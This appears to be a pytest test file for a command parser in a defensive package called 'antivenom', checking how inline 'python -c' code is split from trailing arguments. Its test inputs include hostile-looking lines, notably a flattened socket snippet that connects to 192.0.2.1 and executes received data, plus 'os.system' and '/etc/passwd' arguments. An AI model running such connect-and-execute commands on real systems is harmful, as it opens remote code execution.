"""Lines whose quotes were lost: where the code ends, and lines that only look like it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from antivenom.pycode.budget import Budget
from antivenom.pycode.command.content import looks_python, split_tail
from tests.pycode.command.support import found, only


@pytest.mark.parametrize(
    "code",
    [
        'import os;os.system("id")',
        "import os; print('a b  c')",
        "print(1) if True else print(2)",
        "x = [i for i in range(3) if i]; print(x)",
        "from os import path as p; print(p)",
        "import os\nfor x in os.environ:\n    print(x)\n",
        "'a'.join(['b', 'c']); print(1)",
        "lambda x: x",
        "print 'hello world'",
        "assert 1 == 1 , 'no'",
        "def f(a, *b): return a\nprint(f(1))",
    ],
)
@pytest.mark.parametrize(
    "head", ["python3 -c", "/usr/bin/python -I -W ignore -c", "sudo -u x python3 -c", "env A=1 python -uc"]
)
def test_code_to_the_end(head, code):
    one = only(f"{head} {code}")
    assert (one.source, one.argv) == (code, ("-c",))


@pytest.mark.parametrize(
    "code, tail",
    [
        ("import sys;print(sys.argv[1])", "hello"),
        ('import sys;exec(" ".join(sys.argv[1:]))', "import os;os.getpid()"),
        ("from m import main; main(fd=5)", "--multiprocessing-fork"),
        ("import sys; print(sys.argv)", "/etc/passwd -v"),
        ("import sys\nprint(sys.argv)\n", "7"),
        ("print('a b')", "c d"),
    ],
)
def test_arguments_after_code(code, tail):
    one = only(f"python3 -c {code} {tail}")
    assert (one.source, one.argv) == (code, ("-c", *tail.split()))


def test_flattened_lines():
    code = "import socket s=socket.socket() s.connect(('192.0.2.1',1)) exec(s.recv(9))"
    one = only(f"python3 -c {code}")
    assert one.source == code
    assert one.notes == ("line breaks between statements are missing",)


@pytest.mark.parametrize(
    "command, source",
    [
        ("sh -c python3 -c 'import os' && ls", "import os"),
        ('bash -c python3 -c "print(1)"', "print(1)"),
        ("sudo sh -c echo 'import os' | python3", "import os\n"),
        ("sh -c python3 -c print(1)", "print(1)"),
        ("/Users/x/My App/bin/python3 -c import os; os.getpid()", "import os; os.getpid()"),
        ("osascript -e do shell script \"python3 -c 'import os'\"", "import os"),
    ],
)
def test_shells_too(command, source):
    assert only(command).source == source


def test_typed_lines_stay():
    assert only("python3 -c 'a = 1' b; ls").argv == ("-c", "b")
    assert only("python3 -c import\\ os").source == "import os"
    assert only("python3 a.py -c 'x y'").argv == ("a.py", "-c", "x y")
    assert [each.target for each in found("python3 a.py && python3 b.py")] == ["a.py", "b.py"]
    assert only("pip install a>=1.0 b<2").target == "a>=1.0 b<2"


def test_looks_python():
    assert looks_python("import os")
    assert looks_python("print(1)")
    assert looks_python("import commands;print commands.x")
    for text in ("ls -la", "restart(now)", "select count(*)", "a-b", "x = 1", "exit 0", "cat a | b"):
        assert not looks_python(text), text


@given(st.text(st.sampled_from("ab ()'\"\\=;\n-#."), max_size=60))
def test_nothing_is_lost(text):
    code, tail, _ = split_tail(text, Budget())
    assert "".join(text.split()) == "".join((code + " " + " ".join(tail)).split())
